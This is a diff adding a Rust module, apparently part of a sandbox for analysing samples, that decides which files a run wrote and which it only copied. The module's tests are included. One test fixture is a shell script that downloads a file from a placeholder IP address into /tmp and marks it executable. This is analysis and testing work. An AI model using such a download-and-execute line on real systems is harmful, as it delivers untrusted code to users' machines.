@@ -1,0 +1,186 @@
+//! What is said of the files of a run when it is over: what was destroyed (`damage`), and what the sample put
+//! there, by what stands in them at the end, however it got there.
+//!
+//! A file is the sample's own if less than half of it stands in a file that was there at the start, in what
+//! such a file can be unpacked to, or in standard input. Of an archive the members count.
+//!
+//! Costs a look at the first bytes of each file that changed, and one pass over what was there if any of them
+//! is a program or script.
+
+use std::collections::HashSet;
+
+use sha2::{Digest as _, Sha256};
+
+use super::{
+    contents::Contents,
+    damage::{self, Found, decoded},
+    fs::{FileChange, Left},
+    limits::{DAMAGE_SEARCHED, HELD_BYTES, HELD_SCANNED},
+    types::{Run, RunOptions},
+};
+use crate::hex;
+
+/// Share of a file from which on it is a copy.
+const COPIED: f64 = 0.5;
+
+/// Judges what a run did to files.
+pub(crate) fn judge(options: &RunOptions, run: &mut Run) {
+    run.damage = damage::assess(options, &run.files);
+    run.asked = damage::asked(options);
+    let same = Same::of(options, &run.files);
+    let held = held(&run.files);
+    let known = known(options, held.iter().flatten().flat_map(|held| held.parts.iter()));
+    for (change, held) in run.files.iter_mut().zip(held) {
+        let holds = held.filter(|held| !is_known(&known, held)).map(|held| held.contents);
+        let (is_copy, is_same) = same.look(change);
+        let is_asked = run.asked.iter().any(|arg| is_within(arg, change.last_path()));
+        change.left = Left { holds: holds.filter(|_| !is_copy), is_copy, is_same, is_asked };
+    }
+}
+
+/// Whether an argument names a file, or a folder that it is in.
+pub(crate) fn is_within(arg: &str, path: &str) -> bool {
+    let is_one = |path: &str| damage::is_named(arg.trim_end_matches('/'), path);
+    let folders = path.match_indices('/').map(|(at, _)| &path[..at]).filter(|folder| !folder.is_empty());
+    // The last part of a word such as `--out=file` is a name too.
+    let after =
+        arg.rsplit_once('=').is_some_and(|(_, name)| !name.is_empty() && damage::is_named(name, path));
+    after || is_one(path) || folders.into_iter().any(is_one)
+}
+
+/// What a file holds, and the bytes that say so.
+struct Held {
+    contents: Contents,
+    parts: Vec<Vec<u8>>,
+}
+
+/// What the files hold that the sample wrote.
+fn held(changes: &[FileChange]) -> Vec<Option<Held>> {
+    let mut room = HELD_SCANNED;
+    changes.iter().map(|change| of_file(change, &mut room)).collect()
+}
+
+fn of_file(change: &FileChange, room: &mut usize) -> Option<Held> {
+    let is_new = change.sha256.is_some() && change.sha256 != change.sha256_before;
+    let head = change.contents.get(..HELD_BYTES).unwrap_or(&change.contents);
+    if !is_new || head.is_empty() || head.len() > *room {
+        return None;
+    }
+    *room -= head.len();
+    let contents = Contents::of_file(head)?;
+    if contents != Contents::Archive {
+        return Some(Held { contents, parts: vec![head.to_vec()] });
+    }
+    let members: Vec<Vec<u8>> = damage::members(head);
+    let is_run = |member: &Vec<u8>| {
+        let kind = Contents::of_file(member);
+        matches!(kind, Some(Contents::Program | Contents::Module | Contents::Command))
+    };
+    let programs: Vec<_> = members.into_iter().filter(is_run).collect();
+    match programs.is_empty() {
+        true => Some(Held { contents, parts: vec![head.to_vec()] }),
+        false => Some(Held { contents: Contents::Program, parts: programs }),
+    }
+}
+
+/// Looks for what was written in what was there before.
+fn known<'a>(options: &RunOptions, parts: impl Iterator<Item = &'a Vec<u8>>) -> Found {
+    let mut found = Found::wanting(parts.map(|part| &part[..]));
+    let mut room = DAMAGE_SEARCHED;
+    if !found.is_idle() {
+        for bytes in damage::files(options).into_values().chain([&options.stdin[..]]) {
+            found.search(bytes, &mut room);
+            decoded(bytes).iter().for_each(|bytes| found.search(bytes, &mut room));
+        }
+    }
+    found
+}
+
+fn is_known(known: &Found, held: &Held) -> bool {
+    held.parts.iter().all(|part| known.share(part).is_some_and(|share| share >= COPIED))
+}
+
+/// The hashes of the files at the start, and with the last part of their paths.
+#[derive(Default)]
+struct Same {
+    hashes: HashSet<String>,
+    named: HashSet<(String, String)>,
+}
+
+impl Same {
+    fn of(options: &RunOptions, changes: &[FileChange]) -> Self {
+        let mut same = Self::default();
+        let sizes: HashSet<u64> = changes.iter().map(|change| change.contents.len() as u64).collect();
+        for (path, bytes) in damage::files(options) {
+            if !bytes.is_empty() && sizes.contains(&(bytes.len() as u64)) {
+                let hash = hex::hex(&Sha256::digest(bytes));
+                same.named.insert((hash.clone(), name(path).to_owned()));
+                same.hashes.insert(hash);
+            }
+        }
+        same
+    }
+
+    /// Whether a file holds what one held at the start, and whether it has its name.
+    fn look(&self, change: &FileChange) -> (bool, bool) {
+        let Some(hash) = &change.sha256 else { return (false, false) };
+        let key = (hash.clone(), name(change.last_path()).to_owned());
+        (self.hashes.contains(hash), self.named.contains(&key))
+    }
+}
+
+/// The last part of a path.
+fn name(path: &str) -> &str {
+    path.rsplit_once('/').map_or(path, |(_, name)| name)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sandbox::ChangeKind;
+
+    fn left(path: &str, bytes: &[u8], options: &RunOptions) -> Left {
+        let change = FileChange {
+            path: path.into(),
+            change: ChangeKind::Created,
+            size_after: Some(bytes.len() as u64),
+            sha256: Some(hex::hex(&Sha256::digest(bytes))),
+            contents: bytes.to_vec(),
+            ..FileChange::default()
+        };
+        let mut run = Run { files: vec![change], ..Run::default() };
+        judge(options, &mut run);
+        run.files[0].left
+    }
+
+    const SCRIPT: &[u8] = b"#!/bin/sh\ncurl -s http://192.0.2.7/a -o /tmp/a\nchmod +x /tmp/a\n";
+
+    #[test]
+    fn what_was_there_is_not_the_samples_own() {
+        let mut options = RunOptions::default();
+        assert_eq!(left("/home/u/a.sh", SCRIPT, &options).holds, Some(Contents::Command));
+        options.files.insert("/home/u/b.sh".into(), SCRIPT.to_vec());
+        let copy = left("/home/u/a.sh", SCRIPT, &options);
+        assert_eq!((copy.holds, copy.is_copy, copy.is_same), (None, true, false));
+        assert!(left("/backup/b.sh", SCRIPT, &options).is_same);
+        let longer = [SCRIPT, b"# end\n"].concat();
+        assert_eq!(left("/home/u/a.sh", &longer, &options).holds, None);
+        let input = RunOptions { stdin: SCRIPT.to_vec(), ..RunOptions::default() };
+        assert_eq!(left("/home/u/a.sh", SCRIPT, &input).holds, None);
+    }
+
+    #[test]
+    fn arguments_name_files_and_folders() {
+        for (arg, path, expected) in [
+            ("/home/u/.bashrc", "/home/u/.bashrc", true),
+            (".bashrc", "/home/u/.bashrc", true),
+            ("project/", "/home/u/project/src/a.rs", true),
+            ("--out=prog", "/home/u/prog", true),
+            ("u", "/home/user/a", false),
+            ("/", "/home/u/a", false),
+            ("", "/home/u/a", false),
+        ] {
+            assert_eq!(is_within(arg, path), expected, "{arg} {path}");
+        }
+    }
+}
